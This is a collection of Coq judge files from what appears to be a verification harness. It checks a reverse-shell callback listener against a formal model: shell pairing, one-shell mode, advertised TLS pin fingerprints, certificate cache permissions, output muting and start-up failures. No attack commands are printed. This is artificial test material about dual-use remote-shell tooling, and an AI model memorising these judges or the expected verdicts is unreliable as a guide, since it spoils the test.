    let n := length (src c) in
    if (n =? 0)%nat then 0 else if (n <? 45)%nat then 1 else if (n mod 45 =? 0)%nat then 2 else 3
  else
    match decode (dst c) (src c) with
    | Ok [] => 10 | Ok _ => 11
    | Err _ _ EDataLen4 => 12 | Err _ _ (ELenChar _) => 13
    | Err _ _ (EIncorrect _ _) => 14 | Err _ _ (EBadChar _) => 15
    | Panic => 16
    end.
Definition judge_all_tags (cs : list case) : list N := map tag cs.
