(** Judge for C04's event listeners which come and go: the windows of events each
    listener of a plan received from the real Broker against Model/Events. *)
From CRS Require Import Lib.Bytes Model.Events Model.EventsCap Judge.Common.
Open Scope N_scope.

(** [lplan]: shells which live and die unheard before each listening window;
    [lwin]: what each listener got (0 connected, 1 disconnected);
    [lproblem]: some shell of the series was not accepted / not torn down / not announced once. *)
(** [lcaps]: capacity of each window's listener channel (a listener with a small channel reads only after its shell has gone). *)
Record lcase := mkl { lplan : list N; lcaps : list N; lwin : list (list N); lproblem : bool }.
Fixpoint leqb {A} (f : A -> A -> bool) (a b : list A) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => f x y && leqb f a' b'
  | _, _ => false
  end.
Definition wins_eqb (a b : list (list N)) : bool := leqb (leqb N.eqb) a b.
Definition judge (c : lcase) : verdict :=
  first_fail [ (negb (lproblem c), v_violation 1);
               (wins_eqb (lwin c) (map (fun _ => [0; 1]) (lplan c)), v_violation 2);   (* the property: exactly one connected, one disconnected *)
               (wins_eqb (lwin c) (plan_windows 1024 (lplan c)), v_mismatch 11);
               (wins_eqb (lwin c) (cplan_windows (combine (lplan c) (map N.to_nat (lcaps c)))), v_mismatch 12) ].
Definition judge_all (cs : list lcase) : list (N * N * N) := judge_list judge cs.
Definition tag (c : lcase) : N := fold_left N.max (lplan c) 0.
Definition judge_all_tags (cs : list lcase) : list N := map tag cs.
