(** Shared helpers for the per-property judges evaluated by the harness. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

(** A verdict: severity 0 = agrees and property monitor holds,
    1 = model and implementation differ (correspondence broken) but the
        property monitor holds on the implementation's output,
    2 = the property monitor fails on the implementation's output
        (a concrete violation); [clause] says which check. *)
Definition verdict := (N * N)%type.
Definition v_ok : verdict := (0, 0).
Definition v_mismatch (clause : N) : verdict := (1, clause).
Definition v_violation (clause : N) : verdict := (2, clause).

(** First failing check wins; monitor checks are listed before
    correspondence checks by the callers. *)
Fixpoint first_fail (checks : list (bool * verdict)) : verdict :=
  match checks with
  | [] => v_ok
  | (true, _) :: r => first_fail r
  | (false, v) :: _ => v
  end.

Fixpoint judge_from {A} (judge : A -> verdict) (i : N) (cs : list A) : list (N * N * N) :=
  match cs with
  | [] => []
  | c :: r =>
      let '(sev, cl) := judge c in
      if sev =? 0 then judge_from judge (i + 1) r
      else (i, sev, cl) :: judge_from judge (i + 1) r
  end.

Definition judge_list {A} (judge : A -> verdict) (cs : list A) : list (N * N * N) :=
  judge_from judge 0 cs.

Definition opt_beq (a b : option bytes) : bool :=
  match a, b with
  | Some x, Some y => beq x y
  | None, None => true
  | _, _ => false
  end.

(** Hex rendering, for queries whose answer the harness reads back. *)
Definition hexdigit (n : N) : ascii :=
  ascii_of_N (if n <? 10 then 48 + n else 87 + n).
Fixpoint hexs (b : bytes) : string :=
  match b with
  | [] => EmptyString
  | x :: r => String (hexdigit (x / 16)) (String (hexdigit (x mod 16)) (hexs r))
  end.
