(** Judge for C01 at the HTTP surface: the handlers of /i/{id} and /o/{id}
    hand the broker the path element, percent-decoded and otherwise untouched
    (internal/hsrv/handlers.go), so two requests pair exactly when the decoded
    elements are the same bytes.  The expected outcome of a pair of requests
    is computed by RUNNING the broker model on the two admissions. *)
From CRS Require Import Lib.Bytes Lib.Pct Model.Broker Model.HttpIds Judge.Common.
Open Scope N_scope.

Record hcase := mkh {
  raw_first : bytes;        (* escaped path element of the first request *)
  raw_second : bytes;       (* ... of the second *)
  first_is_in : bool;       (* first request is /i/..., second /o/...; or the reverse *)
  paired : bool;            (* the operator saw the ready notice after the second request *)
  refusal_told : bool;      (* the operator saw a refusal notice for the second request *)
  second_io : bool;         (* the second request was sent an operator line / had output displayed *)
  second_ended : bool       (* the second request's response had ended by itself *)
}.

(** what the broker model makes of the two admissions (Model/HttpIds.v) *)
Definition model_pairs (c : hcase) : bool := http_pairs (raw_first c) (raw_second c) (first_is_in c).

Definition judge (c : hcase) : verdict :=
  first_fail [
    (negb (paired c) || beq (pct_decode (raw_first c)) (pct_decode (raw_second c)), v_violation 1);
        (* two streams whose IDs differ were attached together *)
    (paired c || (refusal_told c && negb (second_io c) && second_ended c), v_violation 2);
        (* a refused attempt is ended at once, announced, and given no I/O *)
    (Bool.eqb (paired c) (model_pairs c), v_mismatch 12)
  ].
Definition judge_all (cs : list hcase) : list (N * N * N) := judge_list judge cs.
Definition tag (c : hcase) : N := (if model_pairs c then 1 else 0) + (if beq (raw_first c) (raw_second c) then 0 else 2).
Definition judge_all_tags (cs : list hcase) : list N := map tag cs.
