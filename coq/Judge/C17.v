(** Judge for C17 (Converter.From). *)
From CRS Require Import Lib.Bytes Lib.Sort Model.Perl Model.FuncList Model.Conv Judge.Common.
Open Scope N_scope.

Inductive ires := IOk (b : bytes) | IErr (cls : N) | IPanic.

Record case := mk {
  mt : list (bytes * bytes * (bool * bool));   (* pattern, name, path.Match verdict, malformed *)
  tab : table;                                 (* effective filter table *)
  addlist : bool;
  srcs : list source;
  ires_of : ires;
  det : bool                                   (* a second call returned the same *)
}.

Definition m_matches (c : case) (p n : bytes) : bool :=
  existsb (fun r => beq (fst (fst r)) p && beq (snd (fst r)) n && fst (snd r)) (mt c).
Definition m_bad (c : case) (p : bytes) : bool :=
  existsb (fun r => beq (fst (fst r)) p && snd (snd r)) (mt c).

Definition res_eq (m : res) (i : ires) : bool :=
  match m, i with
  | ROk a, IOk b => beq a b
  | RErr e, IErr e' => e =? e'
  | _, _ => false
  end.

(** The statement, for sources that are all in scope: [Some expected]. *)
Definition spec_source (c : case) (s : source) : option (option bytes) :=
  match s with
  | SDir d => if dir_in_scope (m_matches c) (m_bad c) (tab c) d
              then Some (spec_dir (m_matches c) (tab c) d) else None
  | SFile n b =>
      if existsb (fun pf => m_bad c (fst pf)) (tab c) then None else
      Some (match find (fun pf => m_matches c (fst pf) (path_base n)) (sort_table (tab c)) with
            | Some _ => convert_one (m_matches c) (sort_table (tab c)) n b
            | None => Some b
            end)
  | SInvalid => None
  end.

Fixpoint spec_all (c : case) (ss : list source) : option (option bytes) :=
  match ss with
  | [] => Some (Some [])
  | s :: r => match spec_source c s, spec_all c r with
              | Some (Some a), Some (Some b) => Some (Some (a ++ b))
              | Some None, Some _ => Some None      (* a filter failed: an error is legitimate *)
              | Some _, Some None => Some None
              | _, _ => None                        (* out of the statement's scope *)
              end
  end.

Definition judge (c : case) : verdict :=
  first_fail [
    (match ires_of c with IPanic => false | _ => true end, v_violation 1);
    (det c, v_violation 2);                                   (* same result on every call *)
    (match spec_all c (srcs c), ires_of c with
     | Some (Some b), IOk o =>
         beq o (if addlist c then b ++ [10] ++ gen_func_list b else b)
     | Some (Some _), _ => false                              (* must not fail *)
     | _, _ => true
     end, v_violation 3);                                     (* exactly the eligible files, converted, in order *)
    (res_eq (conv_from (m_matches c) (m_bad c) (tab c) (addlist c) (srcs c)) (ires_of c), v_mismatch 10)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.

(** 0: no eligible file anywhere; 1: some; 2: out of scope / error expected *)
Definition tag (c : case) : N :=
  match spec_all c (srcs c) with
  | Some (Some []) => 0
  | Some (Some _) => 1
  | _ => 2
  end.
Definition judge_all_tags (cs : list case) : list N := map tag cs.
