(** Judge for C12 (-one-shell). *)
From CRS Require Import Lib.Bytes Model.Broker Model.OneShell Judge.Common.
Open Scope N_scope.

(** One observation: how many 'shell is ready' notices the operator had seen
    when the listening socket was probed, and whether it accepted a TCP
    connection (after waiting up to a few seconds for the expected state). *)
Record case := mk {
  one_shell : bool;
  probes : list (N * bool);        (* ready notices seen so far, listener accepted *)
  help_after_gone : bool;          (* callback help was printed again after the shell was gone *)
  do_is_oneshell_closed : bool;    (* Server.Do returned ErrOneShellClosed once the shell had ended *)
  shell_worked_after_close : bool  (* a line and its output went through the shell after the listener had closed *)
}.

Definition judge (c : case) : verdict :=
  first_fail [
    (forallb (fun p => Bool.eqb (snd p) (listener_open (one_shell c) (repeat EConn (N.to_nat (fst p))))) (probes c), v_violation 1);
        (* open exactly as long as no shell has been fully attached *)
    (negb (one_shell c) || negb (help_after_gone c), v_violation 2);      (* no new callbacks offered *)
    (negb (one_shell c) || do_is_oneshell_closed c, v_violation 3);        (* the server ends by itself, as a success *)
    (negb (one_shell c) || shell_worked_after_close c, v_violation 4)      (* the attached shell is undisturbed *)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.
Definition tag (c : case) : N := (if one_shell c then 1 else 0) + 2 * N.of_nat (length (probes c)).
Definition judge_all_tags (cs : list case) : list N := map tag cs.
