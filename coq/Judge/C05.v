(** Judge for C05 (advertised fingerprints). *)
From CRS Require Import Lib.Bytes Lib.Sha256 Lib.Base64 Model.Script Judge.Common.
Open Scope N_scope.

Record case := mk {
  spki : bytes;                 (* SubjectPublicKeyInfo of the leaf a TLS client was really shown *)
  field : bytes;                (* Listener.Fingerprint *)
  pins : list bytes;            (* every pin found in start-up one-liners, re-printed help and both curls of served scripts *)
  addrs : list (bytes * (bytes * (bool * bytes)))   (* printed address, the -callback-address given, had a port?, bound port *)
}.

Definition judge (c : case) : verdict :=
  let want := pin_of_spki (spki c) in
  first_fail [
    (negb (beq (spki c) []) && negb (match pins c with [] => true | _ => false end), v_violation 9);  (* something was observed *)
    (forallb (beq want) (pins c), v_violation 1);          (* every advertised pin = base64(sha256(SPKI served)), computed here *)
    (beq want (field c), v_violation 2);
    (forallb (fun a => beq (fst a) (with_port (fst (snd a)) (fst (snd (snd a))) (snd (snd (snd a))))) (addrs c), v_violation 3)
                                                           (* user-supplied port kept, otherwise the bound port *)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.
Definition tag (c : case) : N := N.of_nat (length (pins c)).
Definition judge_all_tags (cs : list case) : list N := map tag cs.
