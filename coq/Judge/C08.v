(** Judge for C08 (certificate cache). *)
From CRS Require Import Lib.Bytes Model.CertCache Judge.Common.
Open Scope N_scope.

(** One start of the program on a given state of the cache file. *)
Record case := mk {
  kind : N;              (* 0 no file / deleted, 1 complete file, 2 torn at a prefix length (possibly 0), 3 one byte damaged, 4 no cache configured *)
  load_cls : N;          (* what LoadCachedCertificate says now: 0 ok, 1 not-exist, 2 other error, 9 not applicable *)
  outcome : N;           (* 0 served the original pair, 1 served ANOTHER pair, 2 failed with an error, 3 panic *)
  pair_ok : bool;        (* the private key returned belongs to the certificate returned *)
  file_changed : bool;   (* the cache file's bytes / modification time differ after the start *)
  file_mode : N;         (* permission bits of the cache file afterwards (0 if absent) *)
  dir_modes : list N     (* permission bits of the directories created for it *)
}.

Definition judge (c : case) : verdict :=
  first_fail [
    (negb (outcome c =? 3), v_violation 6);
    (match kind c with
     | 1 => (outcome c =? 0) && negb (file_changed c)                 (* same identity; an existing file is never rewritten *)
     | 2 | 3 => ((outcome c =? 0) || (outcome c =? 2)) && negb (file_changed c)
                                                                       (* original key or an error - never another key, never regenerated *)
     | _ => true
     end, v_violation 1);
    (negb ((outcome c =? 0) || (outcome c =? 1)) || pair_ok c, v_violation 2);      (* never a mismatched pair *)
    (match kind c with 0 => negb (outcome c =? 2) && (negb (outcome c =? 0) || negb (file_mode c =? 0)) | _ => true end, v_violation 3);
                                                                       (* a missing file is simply regenerated - and is there afterwards *)
    (owner_only (file_mode c) && forallb owner_only (dir_modes c), v_violation 4);  (* owner-only file and directories *)
    (* the decision agrees with the model given what loading said *)
    (match kind c, load_cls c with
     | 4, _ => true
     | _, 0 => outcome c =? 0
     | _, 1 => (outcome c =? 1) || (outcome c =? 0)
     | _, 2 => outcome c =? 2
     | _, _ => true
     end, v_mismatch 10)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.
Definition tag (c : case) : N := kind c * 10 + outcome c.
Definition judge_all_tags (cs : list case) : list N := map tag cs.

(** Runs that stay up while the cache is deleted and other runs start on the same path: each keeps
    presenting the key pair it started with (its pin was advertised once, at start). *)
Record lcase := mkl { l_started : list bytes; l_served : list bytes }.
Fixpoint same_keys (a b : list bytes) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => beq x y && same_keys a' b'
  | _, _ => false
  end.
Definition judge_up (cs : list lcase) : list (N * N * N) :=
  judge_list (fun c => first_fail [ (same_keys (l_started c) (l_served c), v_violation 7) ]) cs.
Definition judge_up_tags (cs : list lcase) : list N := map (fun c => N.of_nat (length (l_started c))) cs.
