(** Judge for C19 (Ctrl+O muting). *)
From CRS Require Import Lib.Bytes Model.Mute Judge.Common.
Open Scope N_scope.

Record case := mk {
  events : list (Z * mev);
  impl : list (list mout * list mout)      (* per event: announced before it, produced by it *)
}.

Definition mout_eqb (a b : mout) : bool :=
  match a, b with
  | Wrote, Wrote | Dropped, Dropped | AnnMuting, AnnMuting | AnnAlready, AnnAlready | AnnUnmuting, AnnUnmuting => true
  | _, _ => false end.
Fixpoint louts_eqb (a b : list mout) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => mout_eqb x y && louts_eqb a' b'
  | _, _ => false end.
Fixpoint trace_eqb (a b : list (list mout * list mout)) : bool :=
  match a, b with
  | [], [] => true
  | (x1, x2) :: a', (y1, y2) :: b' => louts_eqb x1 y1 && louts_eqb x2 y2 && trace_eqb a' b'
  | _, _ => false end.
Definition has (o : mout) (l : list mout) : bool := existsb (mout_eqb o) l.

(** The statement, read off the implementation's own trace (no model state):
    - every status line is written;
    - before the first Ctrl+O nothing is dropped;
    - shell output is dropped only while muted: after a 'Muting' announcement
      and before the next 'Unmuting';
    - muting ends by itself: 'Unmuting' is announced exactly when the pause has
      elapsed since the latest of (the Ctrl+O that muted, the last dropped
      output), and never otherwise. *)
Record jst := { j_muted : bool; j_quiet_since : Z }.
Fixpoint mon (s : jst) (es : list (Z * mev)) (is_ : list (list mout * list mout)) : bool :=
  match es, is_ with
  | (now, e) :: es', (before, after) :: is' =>
      (* muting must have ended by itself exactly at quiet_since + pause *)
      let due := j_muted s && (j_quiet_since s + pause <=? now)%Z in
      let unm := has AnnUnmuting before in
      Bool.eqb unm due &&
      let muted := j_muted s && negb due in
      match e with
      | Status => has Wrote after && mon {| j_muted := muted; j_quiet_since := j_quiet_since s |} es' is'
      | Plain =>
          if muted then has Dropped after && negb (has Wrote after) &&
                        mon {| j_muted := true; j_quiet_since := now |} es' is'
          else has Wrote after && mon {| j_muted := false; j_quiet_since := j_quiet_since s |} es' is'
      | CtrlO =>
          if muted then has AnnAlready after && mon {| j_muted := true; j_quiet_since := j_quiet_since s |} es' is'
          else has AnnMuting after && mon {| j_muted := true; j_quiet_since := now |} es' is'
      | Tick => negb (has AnnUnmuting after) && mon {| j_muted := muted; j_quiet_since := j_quiet_since s |} es' is'
      end
  | [], [] => true
  | _, _ => false
  end.

Definition judge (c : case) : verdict :=
  first_fail [
    (mon {| j_muted := false; j_quiet_since := 0 |} (events c) (impl c), v_violation 1);
    (trace_eqb (snd (mrun (events c))) (impl c), v_mismatch 10)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.

(** bit 0: something was dropped; bit 1: an unmute happened; bit 2: repeated Ctrl+O while muted *)
Definition tag (c : case) : N :=
  let o := snd (mrun (events c)) in
  (if existsb (fun p => has Dropped (snd p)) o then 1 else 0) +
  (if existsb (fun p => has AnnUnmuting (fst p)) o then 2 else 0) +
  (if existsb (fun p => has AnnAlready (snd p)) o then 4 else 0).
Definition judge_all_tags (cs : list case) : list N := map tag cs.

(** Ctrl+O as a real key press while shell output is being written (harness
    TestVerifCtrlOKey): whatever the interleaving of the key handler and the
    write, the model's answer to "Ctrl+O, later a status line" is: the mute is
    announced and the status line is written. *)
Record kcase := mkk { k_announced : bool; k_status_written : bool }.
Definition judge_key1 (k : kcase) : verdict :=
  let o := snd (mrun [(0%Z, CtrlO); (300%Z, Status)]) in
  let want_ann := existsb (fun p => has AnnMuting (snd p)) o in
  let want_status := existsb (fun p => has Wrote (snd p)) o in
  first_fail [ ((negb want_ann || k_announced k) && (negb want_status || k_status_written k), v_violation 2) ].
Definition judge_key (ks : list kcase) : list (N * N * N) := judge_list judge_key1 ks.
Definition judge_key_tags (ks : list kcase) : list N := map (fun _ => 1) ks.
