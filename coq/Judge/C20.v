(** Judge for C20 (start-up failures and exits). *)
From CRS Require Import Lib.Bytes Model.Startup Judge.Common.
Open Scope N_scope.

Record case := mk {
  cfg : config; flt : faults; how : ending;
  exit_code : N;               (* 999 = killed by the harness (did not exit by itself) *)
  crash_text : bool;           (* output contains 'panic:' or a goroutine trace *)
  cause_named : N;             (* which cause the message names: 0 none, 1 log, 2 ctrl-i, 3 tty, 4 cache, 5 listen *)
  tty_present : bool;
  termios_same : bool          (* the terminal's settings after exit equal those before start (true when there is no terminal) *)
}.

Definition cause_n (c : option cause) : N :=
  match c with None => 0 | Some CLog => 1 | Some CCtrlI => 2 | Some CTTY => 3 | Some CCache => 4 | Some CListen => 5 | Some CRun => 6 end.

Definition judge (c : case) : verdict :=
  let m := rmain (cfg c) (flt c) (how c) in
  first_fail [
    (negb (crash_text c), v_violation 1);                               (* never a Go panic or stack trace *)
    (negb (exit_code c =? 999), v_violation 2);                         (* exits by itself *)
    (match first_fault (cfg c) (flt c) with
     | Some cz => negb (exit_code c =? 0) && (cause_named c =? cause_n (Some cz))
     | None => true end, v_violation 3);                                (* non-zero status and a message naming the (first) cause *)
    (termios_same c, v_violation 4);                                    (* the terminal is returned to the mode it was found in *)
    (match m with Exit code _ _ => exit_code c =? code | Panic => false end, v_mismatch 10)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.
Definition tag (c : case) : N := cause_n (first_fault (cfg c) (flt c)) + (if tty_present c then 10 else 0).
Definition judge_all_tags (cs : list case) : list N := map tag cs.
