(** Compact transport of byte strings into case files: 7 bytes per primitive
    63-bit integer literal (little endian).  Used only by the judges that
    evaluate harness cases; no model, proof or property theorem depends on it
    (so the primitive-integer declarations never appear in their
    [Print Assumptions]). *)
From Coq Require Import List NArith ZArith.
From Coq Require Export Uint63.
Import ListNotations.

Fixpoint bytes_of (k : nat) (x : int) : list N :=
  match k with
  | O => []
  | S k' => Z.to_N (Uint63.to_Z (Uint63.land x 255)) :: bytes_of k' (Uint63.lsr x 8)
  end.

(** [up n l]: the first [n] bytes carried by [l]. *)
Definition up (n : N) (l : list int) : list N :=
  firstn (N.to_nat n) (flat_map (bytes_of 7) l).
