(** Judge for C14 (CmdShell relays everything before EOF). *)
From CRS Require Import Lib.Bytes Model.CmdShell Judge.Common.
Open Scope N_scope.

(** The child writes digits, 'o' and newline on stdout and capital letters,
    'e' and ';' on stderr, so the shared stream can be split per descriptor. *)
Definition is_out (c : N) : bool := ((48 <=? c) && (c <=? 57)) || (c =? 111) || (c =? 10).
Definition is_err (c : N) : bool := ((65 <=? c) && (c <=? 90)) || (c =? 101) || (c =? 59).

Record case := mk {
  want_o : bytes; want_e : bytes;     (* what the command writes on stdout / stderr *)
  got : bytes;                        (* what the output stream delivered before it ended *)
  eof : bool;                         (* the stream ended with EOF within the time limit *)
  exit_status : N;
  go_err : N                          (* 0 Go returned nil, 1 an exit-status error, 2 another error, 3 did not return *)
}.

Definition judge (c : case) : verdict :=
  first_fail [
    (eof c, v_violation 1);                                             (* the stream ends once the command has exited and was drained *)
    (beq (filter is_out (got c)) (want_o c), v_violation 2);            (* stdout: everything, in order *)
    (beq (filter is_err (got c)) (want_e c), v_violation 3);            (* stderr: everything, in order *)
    (forallb (fun x => is_out x || is_err x) (got c), v_violation 4);   (* nothing else *)
    (if go_reports_error (exit_status c) then go_err c =? 1 else go_err c =? 0, v_violation 5)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.
Definition tag (c : case) : N :=
  (if (length (want_o c) <=? 65536)%nat then 0 else 1) + (if (length (want_e c) <=? 0)%nat then 0 else 2) +
  (if exit_status c =? 0 then 0 else 4).
Definition judge_all_tags (cs : list case) : list N := map tag cs.
