(** Judge for C16 (FromPerl). *)
From CRS Require Import Lib.Bytes Lib.Utf8 Model.UU Model.Perl Judge.Common.
Open Scope N_scope.

Record case := mk {
  name : bytes;
  src : bytes;
  out : option bytes     (* None: error or panic *)
}.

(** The text in front of the function (lines starting with '#'). *)
Definition lead_of (o : bytes) : bytes :=
  firstn (length o - length (drop_comment_lines o)) o.

Definition judge (c : case) : verdict :=
  match out c with
  | None => v_violation 1
  | Some o =>
      first_fail [
        (opt_beq (recv o) (Some (spec_text (src c))), v_violation 2);
           (* perl receives the trimmed script with the leading comment run blanked *)
        (beq (lead_of o) (spec_lead (src c)), v_violation 3);
           (* leading comments kept in front of the function *)
        (bprefix (func_name (name c) ++ txt "() {") (drop_comment_lines o), v_violation 4);
           (* function name = base name without extension *)
        (beq o (from_perl (name c) (src c)), v_mismatch 10)
      ]
  end.
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.

(** 0 empty, 1 whitespace only, 2 no lead comments, 3 lead comments, +10 if payload has a substituted char *)
Definition tag (c : case) : N :=
  match src c with
  | [] => 0
  | _ => let '(lead, perl) := clean_perl (src c) in
         let e := encode perl in
         (if existsb (fun x => (x =? 39) || (x =? 92)) e then 10 else 0) +
         (match trim_space (src c) with [] => 1 | _ => match lead with [] => 2 | _ => 3 end end)
  end.
Definition judge_all_tags (cs : list case) : list N := map tag cs.
