(** Judges for the broker properties (C01 C02 C03 C04 C06 C11): compare the
    model's predicted observations with the implementation's, step by step,
    and evaluate each property's monitor on the implementation's trace. *)
From CRS Require Import Lib.Bytes Model.Broker Judge.Common.
Open Scope N_scope.

Record case := mk {
  ops : list op;
  impl : list sobs;       (* one per op, as observed on the real broker *)
  leaks : N;              (* broker goroutines still alive after every transport was closed *)
  stuck : bool;           (* the bubble dead-locked or a step never became quiescent *)
  corr_on : bool;         (* false for stalled-terminal cases: the model does not describe a bounded operator channel *)
  json_ok : bool;         (* the real JSON handler's output was one parsable object per line *)
  json_lines : N
}.

(** ** Canonical forms *)
Fixpoint merge_plain (l : list ochobs) : list ochobs :=
  match l with
  | OPlain a :: r =>
      match merge_plain r with
      | OPlain b :: r' => OPlain (a ++ b) :: r'
      | r' => OPlain a :: r'
      end
  | x :: r => x :: merge_plain r
  | [] => []
  end.
Definition log_sid (r : lrec) : N := match r with Log _ s => s end.
Fixpoint ins_log (x : lrec) (l : list lrec) : list lrec :=
  match l with
  | [] => [x]
  | y :: r => if log_sid x <=? log_sid y then x :: l else y :: ins_log x r
  end.
Fixpoint merge_io (l : list lrec) : list lrec :=
  match l with
  | Log (LIO a) s :: r =>
      match merge_io r with
      | Log (LIO b) s' :: r' => if s =? s' then Log (LIO (a ++ b)) s :: r' else Log (LIO a) s :: Log (LIO b) s' :: r'
      | r' => Log (LIO a) s :: r'
      end
  | x :: r => x :: merge_io r
  | [] => []
  end.
(** stable by stream; reads forwarded in several pieces count as one *)
Definition sort_log (l : list lrec) : list lrec := merge_io (fold_right ins_log [] l).
Fixpoint ins_n (x : N) (l : list N) : list N :=
  match l with [] => [x] | y :: r => if x <? y then x :: l else y :: ins_n x r end.
Definition sort_n (l : list N) : list N := fold_right ins_n [] l.

Definition ncls_eqb (a b : ncls) : bool :=
  match a, b with
  | NConnected, NConnected | NReady, NReady | NRefused, NRefused | NClosed, NClosed | NGone, NGone => true
  | _, _ => false end.
Definition och_eqb (a b : ochobs) : bool :=
  match a, b with
  | ONote c s, ONote c' s' => ncls_eqb c c' && (s =? s')
  | OPlain x, OPlain y => beq x y
  | _, _ => false end.
Definition lcls_eqb (a b : lcls) : bool :=
  match a, b with
  | LNew, LNew | LKeyMissing, LKeyMissing | LTeardown, LTeardown | LDup, LDup | LBadKey, LBadKey => true
  | LDisc e, LDisc e' => Bool.eqb e e'
  | LIO x, LIO y => beq x y
  | _, _ => false end.
Definition lrec_eqb (a b : lrec) : bool :=
  match a, b with Log c s, Log c' s' => lcls_eqb c c' && (s =? s') end.
Definition ev_eqb (a b : ev) : bool := match a, b with EConn, EConn | EDisc, EDisc => true | _, _ => false end.
Definition wev_eqb (a b : wev) : bool :=
  match a, b with
  | WWrite s d, WWrite s' d' | WWriteFail s d, WWriteFail s' d' => (s =? s') && beq d d'
  | WFlush s e, WFlush s' e' | WFlushFail s e, WFlushFail s' e' => (s =? s') && Bool.eqb e e'
  | _, _ => false end.
Fixpoint list_eqb {A} (f : A -> A -> bool) (a b : list A) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => f x y && list_eqb f a' b'
  | _, _ => false end.

(** First differing component of one step: 0 = equal. *)
Definition step_diff (m i : sobs) : N :=
  if negb (list_eqb och_eqb (merge_plain (o_och m)) (merge_plain (o_och i))) then 10
  else if negb (list_eqb lrec_eqb (sort_log (o_log m)) (sort_log (o_log i))) then 11
  else if negb (list_eqb ev_eqb (o_ev m) (o_ev i)) then 12
  else if negb (list_eqb wev_eqb (o_w m) (o_w i)) then 13
  else if negb (list_eqb N.eqb (sort_n (o_att m)) (sort_n (o_att i)) &&
                list_eqb N.eqb (sort_n (o_ret m)) (sort_n (o_ret i))) then 14
  else if negb (Bool.eqb (o_do m) (o_do i)) then 15
  else 0.
(** component code + 100 * (index of the step + 1) *)
Fixpoint trace_diff (m i : list sobs) (k : N) : N :=
  match m, i with
  | [], [] => 0
  | x :: m', y :: i' => let d := step_diff x y in if d =? 0 then trace_diff m' i' (k + 1) else d + 100 * (k + 1)
  | _, _ => 16 + 100 * (k + 1)
  end.
Definition corr (c : case) : bool * verdict :=
  let d := if corr_on c then trace_diff (snd (run (ops c))) (impl c) 0 else 0 in (d =? 0, v_mismatch d).

(** ** Facts read off the operation list *)
Fixpoint descs (os : list op) : list (N * sdesc) :=
  match os with
  | OAdmit id d :: r => (id, d) :: descs r
  | OIoReq si so di do_ :: r => (si, di) :: (so, do_) :: descs r
  | _ :: r => descs r
  | [] => []
  end.
Definition desc_of (ds : list (N * sdesc)) (id : N) : option sdesc :=
  match find (fun p => fst p =? id) ds with Some p => Some (snd p) | None => None end.
Definition memb (x : N) (l : list N) : bool := existsb (N.eqb x) l.
Definition remove_all (xs l : list N) : list N := filter (fun y => negb (memb y xs)) l.

(** The stream an operation tries to admit. *)
Definition admitted_id (o : op) : option N :=
  match o with OAdmit id _ => Some id | OGo id => Some id | _ => None end.

(** ** Monitor state threaded over the implementation's trace *)
Record mon := {
  m_live : list N;        (* attached and not yet returned *)
  m_ended : list N;       (* live streams whose closure (LDisc) has been logged *)
  m_shut : bool;
  m_entered : list bytes; (* lines entered, oldest first, not yet taken *)
  m_sent : bytes;         (* output bytes offered to live output streams, not yet shown *)
  m_dead_w : list N;      (* input streams that had a failing write / error flush *)
  m_teardown : bool;      (* one stream of the shell has returned, another is still attached *)
  m_outq : list bytes     (* output pieces logged but not yet shown (stalled terminal) *)
}.
Definition mon0 : mon := {| m_live := []; m_ended := []; m_shut := false; m_entered := []; m_sent := []; m_dead_w := [];
                            m_teardown := false; m_outq := [] |}.

Definition live_dirs (ds : list (N * sdesc)) (live : list N) (d : dir) : list N :=
  filter (fun id => match desc_of ds id with Some x => dir_eqb (sd_dir x) d | None => false end) live.

Definition disc_ids (o : sobs) : list N :=
  flat_map (fun r => match r with Log (LDisc _) s => [s] | _ => [] end) (o_log o).

Definition mon_next (m : mon) (o : op) (i : sobs) : mon :=
  let live1 := remove_all (o_ret i) (m_live m ++ o_att i) in
  {| m_live := live1;
     m_ended := remove_all (o_ret i) (m_ended m ++ disc_ids i);
     m_shut := m_shut m || (match o with OShutdown => true | _ => false end);
     m_entered := m_entered m;
     m_sent := m_sent m;
     m_dead_w := m_dead_w m;
     m_teardown := match live1 with
                   | [] => false
                   | _ => m_teardown m || existsb (fun r => memb r (m_live m ++ o_att i)) (o_ret i)
                   end;
     m_outq := m_outq m |}.

(** ** C01 / C06: one shell at a time, same key (same /io request) *)
Definition c01_step (ds : list (N * sdesc)) (m : mon) (o : op) (i : sobs) : bool :=
  let m' := mon_next m o i in
  let ins := live_dirs ds (m_live m') DIn in
  let outs := live_dirs ds (m_live m') DOut in
  (* at most one of each, and equal keys when both *)
  (length ins <=? 1)%nat && (length outs <=? 1)%nat &&
  match ins, outs with
  | [a], [b] => match desc_of ds a, desc_of ds b with
                | Some x, Some y => key_eqb (sd_key x) (sd_key y)
                | _, _ => false end
  | _, _ => true
  end &&
  (* a refused attempt ends at once, is announced (outside shutdown), gets no I/O *)
  match admitted_id o with
  | Some id =>
      if memb id (o_att i) then negb (m_teardown m) && negb (m_shut m) &&   (* nothing is accepted during tear-down of the previous shell, or once shutdown has begun *)
                                match desc_of ds id with Some x => negb (key_eqb (sd_key x) (KUni [])) | None => true end   (* ... nor ever without an ID *)
      else memb id (o_ret i) &&
           (m_shut m || existsb (fun x => match x with ONote NRefused s => s =? id | _ => false end) (o_och i)) &&
           negb (existsb (fun w => match w with WWrite s _ | WWriteFail s _ => s =? id | _ => false end) (o_w i))
  | None => true
  end &&
  (* nothing is displayed for, or written to, a stream that is not attached *)
  match o with
  | OData id _ _ => memb id (m_live m) || negb (existsb (fun x => match x with OPlain _ => true | _ => false end) (o_och i))
  | _ => true
  end &&
  forallb (fun w => match w with WWrite s _ | WWriteFail s _ => memb s (m_live m ++ o_att i) | _ => true end) (o_w i).

(** ** C04: tear-down, announcements, re-arming, shutdown *)
